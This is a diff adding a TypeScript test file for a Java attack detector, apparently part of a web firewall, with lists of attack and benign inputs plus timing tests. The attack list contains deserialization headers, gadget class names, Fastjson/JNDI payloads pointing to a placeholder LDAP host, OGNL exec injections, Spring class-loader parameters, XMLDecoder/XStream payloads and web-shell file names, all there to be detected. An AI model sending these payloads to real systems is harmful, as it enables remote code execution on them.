@@ -1,0 +1,141 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import type { DetectorContext, Finding } from '../../finding.ts';
+import { javaDetector as detector } from './java.ts';
+
+function run(value: string, ctx: Partial<DetectorContext> = {}): Finding[] {
+  const out: Finding[] = [];
+  detector.detect(value, { source: 'body', name: 'data', isName: false, paranoia: 3, layers: [], ...ctx }, (f) => out.push(f));
+  return out;
+}
+function bestOf(fn: () => void): number {
+  let best = Infinity;
+  for (let k = 0; k < 5; k++) {
+    const t = performance.now();
+    fn();
+    best = Math.min(best, performance.now() - t);
+  }
+  return best;
+}
+const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);
+
+/** Base64 of `prefix` bytes followed by the Java serialization header and a little payload. */
+function serializedB64(prefix: number): string {
+  const bytes = Buffer.concat([Buffer.alloc(prefix, 0x41), Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]), Buffer.from('java.util.HashMap')]);
+  return bytes.toString('base64');
+}
+
+const attacks: [string, Partial<DetectorContext>][] = [
+  [serializedB64(0), {}],
+  [serializedB64(0).slice(0, 8), {}],
+  ['payload=' + serializedB64(0), {}],
+  [serializedB64(1).slice(1), {}],
+  [serializedB64(2).slice(2), {}],
+  [serializedB64(3).slice(3), {}],
+  ['ACED00057372', {}],
+  ['\u00ac\u00ed\u0000\u0005sr', {}],
+  ['x=\\xac\\xed\\x00\\x05', {}],
+  ['java.lang.Runtime', {}],
+  ['java.lang.ProcessBuilder', { source: 'cookie', name: 'x' }],
+  ['java.lang.Runtime', { isName: true, source: 'query' }],
+  ['javax.script.ScriptEngineManager', {}],
+  ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}', {}],
+  ['["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x.example/a"}]', {}],
+  ['org.apache.commons.collections.functors.InvokerTransformer', {}],
+  ['com.opensymphony.xwork2.ActionContext', {}],
+  ['org.omg.CORBA.ORB', {}],
+  ['java.Runtime', {}],
+  ['java.evil.processbuilder', {}],
+  ['ProcessBuilder.evil.clonetransformer', {}],
+  ['runtime.InvokerTransformer', {}],
+  ['TemplatesImpl', {}],
+  ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", { source: 'header', name: 'content-type' }],
+  ["%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", {}],
+  ['${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}', {}],
+  ["@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", {}],
+  ['class.module.classLoader.resources.context.parent.pipeline.first.pattern', { isName: true, source: 'body' }],
+  ["class['classLoader'].resources.dirContext.docBase", { isName: true, source: 'query' }],
+  ['Class.classLoader.URLs[0]', { isName: true, source: 'query' }],
+  ['user.class.module.classLoader.x', { isName: true, source: 'query' }],
+  ['Runtime.getRuntime().exec("calc")', {}],
+  ['Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)', {}],
+  ['new ProcessBuilder("bash","-c","id").start()', {}],
+  ['<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>', {}],
+  ['<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>', {}],
+  ['shell.jsp', { source: 'header', name: 'x-filename' }],
+  ['a.jspx..', { source: 'header', name: 'x-file-name' }],
+  ['shell. jsp ', { source: 'body', name: 'filename' }],
+  ['\ufffd\ufffd\u0000\u0005', {}],
+];
+
+const benign: [string, Partial<DetectorContext>][] = [
+  ['I love Java and JavaScript', {}],
+  ['java lang courses', {}],
+  ['Exception in thread "main" java.lang.NullPointerException\n\tat com.example.App.main(App.java:12)\n\tat java.lang.reflect.Method.invoke(Native Method)\n\tat java.lang.Thread.run(Thread.java:748)', {}],
+  ['Caused by: java.io.IOException: Broken pipe', {}],
+  ['com.example.myapp', {}],
+  ['com.google.android.gms', {}],
+  ['org.example.runtime.config', {}],
+  ['https://www.example.com/java/lang/runtime', {}],
+  ['The class module loads fast', {}],
+  ['className=active', { isName: true, source: 'query' }],
+  ['classroom.module', { isName: true, source: 'query' }],
+  ['user@example.com and @mention', {}],
+  ['Price: ${price}', {}],
+  ['player.start(); timer.start(); x.eval()', {}],
+  ['report.jsp', { source: 'query', name: 'page' }],
+  ['document.pdf', { source: 'header', name: 'x-filename' }],
+  ['SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NA==', {}],
+  ['eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', {}],
+  ['The lazymap keyword is a Clojure thing', {}],
+  ['Event handler for click', {}],
+  ['Class.forName("com.mysql.jdbc.Driver")', {}],
+];
+
+test('Java attacks are found at paranoia 1', () => {
+  for (const [value, ctx] of attacks) {
+    const fs = pl1(run(value, ctx));
+    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
+    for (const f of fs) {
+      assert.equal(f.category, 'java');
+      assert.equal(f.score, 5);
+      assert.ok(f.matched.length <= 120);
+    }
+  }
+});
+
+test('stack traces, Java talk and ordinary base64 give nothing at paranoia 1', () => {
+  for (const [value, ctx] of benign) assert.deepEqual(pl1(run(value, ctx)), [], `false positive: ${JSON.stringify(value)}`);
+});
+
+test('weaker Java signals are paranoia 2/3', () => {
+  assert.equal(run('java.util.ArrayList')[0]?.paranoia, 2);
+  assert.equal(run(Buffer.from('xxinvokertransformer').toString('base64').slice(1))[0]?.paranoia, 1);
+  assert.equal(run(Buffer.from('{"runtime": "nodejs18.x"}').toString('base64').slice(2))[0]?.paranoia, 3);
+});
+
+test('linear time; never throws', () => {
+  for (let i = 0; i < 3000; i++) {
+    let s = '';
+    for (let j = 0; j < 30; j++) s += 'java.lang.Runtime@%{#(rO0AB)class[]<void method=\u00ac\u00ed'[Math.floor(Math.random() * 52)] ?? '';
+    run(s);
+    run(s, { isName: true });
+  }
+  const inputs = [
+    'We use Java and Spring for the backend, com.example.app handles it. '.repeat(3000),
+    Buffer.alloc(150000, 'x').toString('base64'),
+    'java.'.repeat(40000),
+    'java.lang.'.repeat(20000),
+    '@a.b'.repeat(50000),
+    '%{'.repeat(100000),
+    'class.'.repeat(35000),
+    'x.getClass('.repeat(20000),
+    'rO0A'.repeat(50000),
+    'aB1'.repeat(70000),
+    'a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.'.repeat(4000),
+  ];
+  for (const v of inputs) {
+    const ms = bestOf(() => { run(v); });
+    assert.ok(ms < 50, `slow ${ms.toFixed(1)} ms on ${v.slice(0, 12)}`);
+  }
+});
